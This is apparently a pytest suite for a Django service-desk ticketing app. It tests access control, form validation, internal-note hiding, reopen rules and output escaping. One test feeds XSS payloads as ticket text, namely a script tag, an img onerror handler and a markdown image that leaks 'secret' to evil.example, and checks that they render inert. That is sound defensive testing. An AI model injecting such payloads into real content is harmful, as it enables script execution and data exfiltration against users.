import html
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from servicedesk.models import AuthorKind, Comment, Ticket, TicketStatus, Visibility
from tests.factories import TicketFactory

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "name,kwargs",
    [
        ("servicedesk:home", {}),
        ("servicedesk:ticket_list", {}),
        ("servicedesk:ticket_create", {}),
        ("servicedesk:ticket_detail", {"ticket_id": 1}),
    ],
)
def test_pages_send_anonymous_users_to_login(client, name, kwargs):
    response = client.get(reverse(name, kwargs=kwargs))
    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))


def test_submit_form_creates_ticket_and_shows_it(alice_client, alice, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks() as callbacks:
        response = alice_client.post(
            reverse("servicedesk:ticket_create"), {"subject": "New mouse", "description": "Mine is broken."}
        )
    ticket = Ticket.objects.get()
    assert response.status_code == 302
    assert response.url == reverse("servicedesk:ticket_detail", kwargs={"ticket_id": ticket.pk})
    assert (ticket.requester, ticket.subject) == (alice, "New mouse")
    assert len(callbacks) == 1
    page = alice_client.get(response.url)
    assert page.status_code == 200
    assert "New mouse" in page.content.decode()


@pytest.mark.parametrize(
    "data,field,message",
    [
        ({"subject": "", "description": "x"}, "subject", "Please give your ticket a subject."),
        ({"subject": "   ", "description": "x"}, "subject", "Please give your ticket a subject."),
        ({"subject": "x", "description": " \n\t "}, "description", "Please describe what you need."),
        ({"subject": "x" * 201, "description": "x"}, "subject", "at most 200 characters (it has 201)"),
        (
            {"subject": "x", "description": "y" * 10_001},
            "description",
            "at most 10000 characters (it has 10001)",
        ),
    ],
)
def test_submit_form_explains_bad_input_and_saves_nothing(alice_client, data, field, message):
    response = alice_client.post(reverse("servicedesk:ticket_create"), data)
    assert response.status_code == 200
    assert message in " ".join(response.context["form"].errors[field])
    assert message in html.unescape(response.content.decode())
    assert Ticket.objects.count() == 0


def test_my_tickets_lists_only_my_own(alice_client, alice, bob):
    TicketFactory(requester=alice, subject="Alice's laptop")
    TicketFactory(requester=bob, subject="Bob's secret project")
    html = alice_client.get(reverse("servicedesk:ticket_list")).content.decode()
    assert "Alice&#x27;s laptop" in html
    assert "Bob" not in html


def test_my_tickets_query_count_does_not_grow_with_tickets(alice_client, alice, django_assert_num_queries):
    TicketFactory.create_batch(15, requester=alice)
    # session, user, roles, count, page of tickets with their queues
    with django_assert_num_queries(5):
        alice_client.get(reverse("servicedesk:ticket_list"))


def test_another_persons_ticket_is_not_found(alice_client, bob):
    ticket = TicketFactory(requester=bob, status=TicketStatus.RESOLVED, resolved_at=timezone.now())
    url = reverse("servicedesk:ticket_detail", kwargs={"ticket_id": ticket.pk})
    assert alice_client.get(url).status_code == 404
    assert alice_client.post(url, {"body": "let me in"}).status_code == 404
    assert (
        alice_client.post(reverse("servicedesk:ticket_confirm", kwargs={"ticket_id": ticket.pk})).status_code
        == 404
    )
    assert (
        alice_client.post(
            reverse("servicedesk:ticket_reopen", kwargs={"ticket_id": ticket.pk}), {"reason": "x"}
        ).status_code
        == 404
    )
    ticket.refresh_from_db()
    assert ticket.status == TicketStatus.RESOLVED
    assert Comment.objects.count() == 0


def test_ticket_page_shows_public_replies_but_never_internal_notes(alice_client, alice):
    ticket = TicketFactory(requester=alice)
    Comment.objects.create(
        ticket=ticket, author_kind=AuthorKind.STAFF, visibility=Visibility.PUBLIC, body="We are on it."
    )
    Comment.objects.create(
        ticket=ticket,
        author_kind=AuthorKind.STAFF,
        visibility=Visibility.INTERNAL,
        body="Internal: user is on the watch list",
    )
    html = alice_client.get(
        reverse("servicedesk:ticket_detail", kwargs={"ticket_id": ticket.pk})
    ).content.decode()
    assert "We are on it." in html
    assert "watch list" not in html


def test_ticket_text_is_rendered_inert(alice_client, alice):
    ticket = TicketFactory(
        requester=alice,
        subject="<script>alert(1)</script>",
        description='<img src=x onerror="alert(2)"> ![x](https://evil.example/?q=secret)',
    )
    html = alice_client.get(
        reverse("servicedesk:ticket_detail", kwargs={"ticket_id": ticket.pk})
    ).content.decode()
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img src=x" not in html
    assert 'src="https://evil.example' not in html


def test_reply_from_the_ticket_page(alice_client, alice):
    ticket = TicketFactory(requester=alice, status=TicketStatus.ESCALATED)
    url = reverse("servicedesk:ticket_detail", kwargs={"ticket_id": ticket.pk})
    response = alice_client.post(url, {"body": "It happens on Wi-Fi only."})
    assert response.status_code == 302
    comment = Comment.objects.get(ticket=ticket)
    assert (comment.author, comment.author_kind, comment.visibility) == (alice, "requester", "public")


def test_confirm_and_reopen_buttons(alice_client, alice):
    resolved = TicketFactory(requester=alice, status=TicketStatus.RESOLVED, resolved_at=timezone.now())
    html = alice_client.get(
        reverse("servicedesk:ticket_detail", kwargs={"ticket_id": resolved.pk})
    ).content.decode()
    assert "Yes, close the ticket" in html and "No, reopen it" in html
    alice_client.post(
        reverse("servicedesk:ticket_reopen", kwargs={"ticket_id": resolved.pk}), {"reason": "Nope"}
    )
    resolved.refresh_from_db()
    assert resolved.status == TicketStatus.REOPENED


def test_reopen_without_a_reason_is_refused(alice_client, alice):
    ticket = TicketFactory(requester=alice, status=TicketStatus.RESOLVED, resolved_at=timezone.now())
    response = alice_client.post(
        reverse("servicedesk:ticket_reopen", kwargs={"ticket_id": ticket.pk}), {"reason": "  "}, follow=True
    )
    assert "Please tell us what is still wrong." in response.content.decode()
    ticket.refresh_from_db()
    assert ticket.status == TicketStatus.RESOLVED


def test_reopen_too_late_shows_why(alice_client, alice):
    ticket = TicketFactory(
        requester=alice, status=TicketStatus.RESOLVED, resolved_at=timezone.now() - timedelta(days=8)
    )
    response = alice_client.post(
        reverse("servicedesk:ticket_reopen", kwargs={"ticket_id": ticket.pk}),
        {"reason": "Broken"},
        follow=True,
    )
    assert "more than 7 days ago" in response.content.decode()
    assert Ticket.objects.get(pk=ticket.pk).status == TicketStatus.RESOLVED


def test_confirm_requires_post(alice_client, alice):
    ticket = TicketFactory(requester=alice, status=TicketStatus.RESOLVED, resolved_at=timezone.now())
    assert (
        alice_client.get(reverse("servicedesk:ticket_confirm", kwargs={"ticket_id": ticket.pk})).status_code
        == 405
    )
    assert Ticket.objects.get(pk=ticket.pk).status == TicketStatus.RESOLVED


def test_resolved_ticket_says_who_resolved_it_instead_of_an_empty_team(alice_client, alice):
    by_agent = TicketFactory(
        requester=alice, status=TicketStatus.RESOLVED, resolved_at=timezone.now(), resolver_kind="agent"
    )
    waiting = TicketFactory(requester=alice)
    page = alice_client.get(reverse("servicedesk:ticket_detail", kwargs={"ticket_id": by_agent.pk}))
    text = page.content.decode()
    assert "by the agent" in text
    assert "Not assigned yet" not in text
    page = alice_client.get(reverse("servicedesk:ticket_detail", kwargs={"ticket_id": waiting.pk}))
    assert "Not assigned yet" in page.content.decode()
